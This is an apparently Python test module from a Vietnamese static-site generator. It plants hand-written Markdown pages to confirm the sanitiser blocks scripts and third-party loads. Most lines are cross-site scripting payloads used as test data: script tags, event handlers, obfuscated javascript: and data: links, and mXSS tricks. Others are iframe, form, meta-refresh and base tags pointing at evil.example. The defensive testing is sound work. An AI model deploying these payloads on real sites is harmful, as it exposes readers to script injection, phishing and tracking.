"""Hand-written pages in content/ are sanitised like Markdown in data: nothing in them runs in a reader's browser.

Every page is built and opened in Chromium. The pages share two builds: one project holds all of
them (each its own file), another those that need embeds allowed in site_config.yml.
"""

from __future__ import annotations

import itertools

from tests.adversarial.case import Case
from tests.adversarial.payloads import image
from tests.conftest import SAMPLE

CATEGORY = "content-pages"
CONFIG = (SAMPLE / "site_config.yml").read_text(encoding="utf-8")
YOUTUBE = "https://www.youtube-nocookie.com/embed/"
BATCH = "content-pages"
BATCH_EMBEDS = "content-pages-with-embeds"


EMBEDS = CONFIG + f"nhung_duoc_phep:\n  - {YOUTUBE}\n"
_numbers = itertools.count(1)


def page(name: str, text: str, *needles: str, config: str | None = None) -> Case:
    """A page planted as content/tan-cong-N.md; the build succeeds, none of `needles` is in the
    site and nothing runs in its pages."""
    # Numbered rather than named: the case's name would be in every page's navigation.
    planted = {f"content/tan-cong-{next(_numbers):02d}.md": text}
    if config is not None:
        planted["site_config.yml"] = config
    return Case(name, CATEGORY, files=planted, expect_exit=0, must_not_publish=list(needles), browser=True,
                batch=BATCH_EMBEDS if config == EMBEDS else BATCH)


def front(title: str, body: str = "Nội dung.\n") -> str:
    return f'---\ntitle: "{title}"\n---\n{body}'


CASES = [
    page("title-img-onerror", front("<img src=x onerror=alert(1)>"), "<img src=x onerror"),
    page("title-script", front("<script>alert(1)</script>"), "<script>alert(1)"),
    page("title-svg-onload", front("<svg onload=alert(1)>"), "<svg onload"),
    page("title-quote-break-out", front('x\\" onmouseover=\\"alert(1)'), '" onmouseover="alert(1)'),
    page("description-script", '---\ntitle: Mô tả\ndescription: "<script>alert(2)</script>"\n---\nx\n',
         "<script>alert(2)"),
    page("front-matter-other-key", '---\ntitle: Khác\nsubtitle: "<img src=x onerror=alert(3)>"\n---\nx\n',
         "<img src=x onerror"),
    page("heading-img-onerror", "# Tiêu đề <img src=x onerror=alert(1)>\n", "<img src=x onerror"),
    page("raw-script", "Trước\n\n<script>alert(1)</script>\n\nSau\n", "<script>alert(1)"),
    page("raw-script-uppercase", "<SCRIPT>alert(1)</SCRIPT>\n", "<SCRIPT>alert(1)", "<script>alert(1)"),
    # Needles precise enough not to match another page's payload shown as text (a title's
    # "&lt;svg onload=alert(1)&gt;" is harmless); any handler that reached a page is found in the browser.
    page("raw-img-onerror", '<img src="x" onerror="alert(1)">\n', 'onerror="alert'),
    page("raw-svg-onload", "<svg><circle onload=alert(1)></circle></svg>\n", "circle onload", 'onload="alert'),
    page("raw-body-onload", "<body onload=alert(1)>\n", "body onload", 'onload="alert'),
    page("raw-details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>\n", "ontoggle="),
    page("raw-a-javascript", '<a href="javascript:alert(1)">bấm</a>\n', "javascript:alert"),
    page("raw-a-javascript-entities", '<a href="&#106;avascript:alert(1)">bấm</a>\n', "avascript:alert"),
    page("raw-a-javascript-tab-entity", '<a href="java&#9;script:alert(1)">bấm</a>\n', "script:alert"),
    page("raw-a-javascript-newline-entity", '<a href="java&#10;script:alert(1)">bấm</a>\n', "script:alert"),
    page("raw-a-javascript-leading-space", '<a href=" javascript:alert(1)">bấm</a>\n', "javascript:alert"),
    page("raw-a-data-url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>\n',
         "data:text/html"),
    page("raw-a-vbscript", '<a href="vbscript:msgbox(1)">x</a>\n', "vbscript:"),
    page("markdown-link-javascript", "[bấm](javascript:alert(1))\n", 'href="javascript:'),
    page("markdown-link-data", "[bấm](data:text/html,<script>alert(1)</script>)\n", 'href="data:'),
    page("markdown-image-javascript", "![x](javascript:alert(1))\n", 'src="javascript:'),
    page("raw-iframe", '<iframe src="https://evil.example/"></iframe>\n', "<iframe", "evil.example"),
    page("raw-iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>\n', "<iframe", 'srcdoc="'),
    page("raw-object", '<object data="https://evil.example/x.swf"></object>\n', "<object", "evil.example"),
    page("raw-embed", '<embed src="https://evil.example/x">\n', "<embed", "evil.example"),
    page("raw-form", '<form action="https://evil.example/"><input name="cccd"></form>\n', "<form action", "evil.example"),
    page("raw-meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
         "http-equiv", "evil.example"),
    page("raw-base", '<base href="https://evil.example/">\n', "<base", "evil.example"),
    page("raw-link-stylesheet", '<link rel="stylesheet" href="https://evil.example/a.css">\n', "evil.example"),
    page("raw-style-element", "<style>body{background:url(https://evil.example/p)}</style>\n", "evil.example"),
    page("raw-style-attribute", '<p style="background:url(https://evil.example/p)">x</p>\n', "evil.example"),
    page("raw-image-third-party", '<img src="https://tracker.example/p.png" alt="x">\n', "tracker.example"),
    page("markdown-image-third-party", "![ảnh](https://tracker.example/p.png)\n", "tracker.example"),
    page("markdown-image-protocol-relative", "![ảnh](//tracker.example/p.png)\n", "tracker.example"),
    page("raw-math-xlink", '<math><a xlink:href="javascript:alert(1)">x</a></math>\n', "javascript:alert"),
    page("raw-noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n',
         "<img src=x onerror"),
    page("raw-comment-break", "<!--><img src=x onerror=alert(1)>-->\n", "<img src=x onerror"),
    page("attr-list-onclick", "Đoạn văn\n{: onclick=\"alert(1)\" }\n", 'onclick="alert'),
    page("attr-list-heading-onmouseover", "## Mục {: onmouseover=\"alert(1)\" }\n", 'onmouseover="alert'),
    page("admonition-title-script", '!!! note "<script>alert(1)</script>"\n    Nội dung\n', "<script>alert(1)"),
    page("table-cell-script", "| a |\n| - |\n| <script>alert(1)</script> |\n", "<script>alert(1)"),
    page("embed-not-listed", '<iframe src="https://evil.example/x"></iframe>\n', "evil.example",
         config=EMBEDS),
    page("embed-host-extended", '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>\n',
         "evil.example", config=EMBEDS),
    page("embed-listed-cannot-run-handlers", f'<iframe src="{YOUTUBE}abc" onload="alert(1)"></iframe>\n',
         'onload="alert', config=EMBEDS),
    Case("embed-listed-is-kept-sandboxed", CATEGORY, expect_exit=0, legitimate=True,
         files={"content/video.md": f'# Phim\n\n<iframe src="{YOUTUBE}abc" title="Phim"></iframe>\n',
                "site_config.yml": EMBEDS},
         # The page keeps the player, sandboxed and without the referrer: checked in test_content_pages.py.
         must_not_publish=["allow-top-navigation"], browser=True, batch=BATCH_EMBEDS),
    Case("embed-prefix-without-slash-refused", CATEGORY, command=["check"],
         files={"site_config.yml": CONFIG + "nhung_duoc_phep:\n  - https://www.youtube-nocookie.com\n"},
         expect_message="site_config.yml:32: nhung_duoc_phep (mục 1): địa chỉ nhúng cần bắt đầu bằng https:// và có "
                        "dấu / ngay sau tên máy chủ. Cách sửa: ghi phần đầu địa chỉ của khung nhúng, ví dụ "
                        "https://www.youtube-nocookie.com/embed/"),
    Case("embed-http-refused", CATEGORY, command=["check"],
         files={"site_config.yml": CONFIG + "nhung_duoc_phep:\n  - http://video.example.gov.vn/\n"},
         expect_message="site_config.yml:32: nhung_duoc_phep (mục 1): địa chỉ nhúng cần bắt đầu bằng https:// và có "
                        "dấu / ngay sau tên máy chủ. Cách sửa: ghi phần đầu địa chỉ của khung nhúng, ví dụ "
                        "https://www.youtube-nocookie.com/embed/"),
    Case("legitimate-page-with-image-table-admonition", CATEGORY, expect_exit=0, legitimate=True,
         files={"content/thu-tuc.md": "---\ntitle: Thủ tục đề nghị khen thưởng\n---\n# Thủ tục\n\n"
                                      "![Sơ đồ](anh/so-do.png)\n\n| Bước | Việc |\n| --- | --- |\n| 1 | Nộp hồ sơ |\n\n"
                                      "!!! note \"Lưu ý\"\n    Hồ sơ nộp tại bộ phận một cửa.\n\n"
                                      "[Liên hệ](mailto:vhxh.lethanhnghi@haiphong.gov.vn), "
                                      "[Luật](https://thuvienphapluat.vn/)\n",
                "content/anh/so-do.png": image("PNG")}, browser=True, batch=BATCH),
]
